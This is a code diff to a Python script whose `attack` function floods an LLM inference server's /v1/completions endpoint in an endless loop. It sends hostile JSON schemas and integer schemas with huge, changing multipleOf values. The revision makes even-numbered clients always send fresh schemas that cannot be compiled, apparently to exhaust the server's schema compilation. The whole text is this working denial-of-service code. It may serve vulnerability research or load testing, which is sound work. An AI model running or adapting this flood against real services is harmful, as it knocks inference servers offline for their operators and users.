@@ -5,6 +5,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import http.client
 import itertools
 import json
@@ -73,19 +74,16 @@ def body(schema: dict[str, Any], **fields: Any) -> bytes:
 
 
 def attack(host: str, port: int, client: int) -> None:
-    """Sends the schemas in turn, each time with a new number to be a multiple of."""
+    """Sends the schemas in turn. Clients with an even number always send a new schema that cannot be compiled."""
     bodies = [body(schema, n=4) for schema in HOSTILE_SCHEMAS.values()]
     for number in itertools.count(client):
-        new = body({'type': 'integer', 'multipleOf': 62_700_001 + 2 * (1000 * client + number)})
-        for content in (new, bodies[number % len(bodies)]):
-            connection = http.client.HTTPConnection(host, port, timeout=600)
-            try:
-                connection.request('POST', '/v1/completions', content, {'Content-Type': 'application/json'})
-                connection.getresponse().read()
-            except OSError:
-                pass
-            connection.close()
-            time.sleep(PAUSE_SECONDS)
+        new = body({'type': 'integer', 'multipleOf': 62_700_001 + 2 * (100_000 * client + number)})
+        content = bodies[number % len(bodies)] if client % 2 else new
+        connection = http.client.HTTPConnection(host, port, timeout=600)
+        with contextlib.closing(connection), contextlib.suppress(OSError):
+            connection.request('POST', '/v1/completions', content, {'Content-Type': 'application/json'})
+            connection.getresponse().read()
+        time.sleep(PAUSE_SECONDS)
 
 
 if __name__ == '__main__':
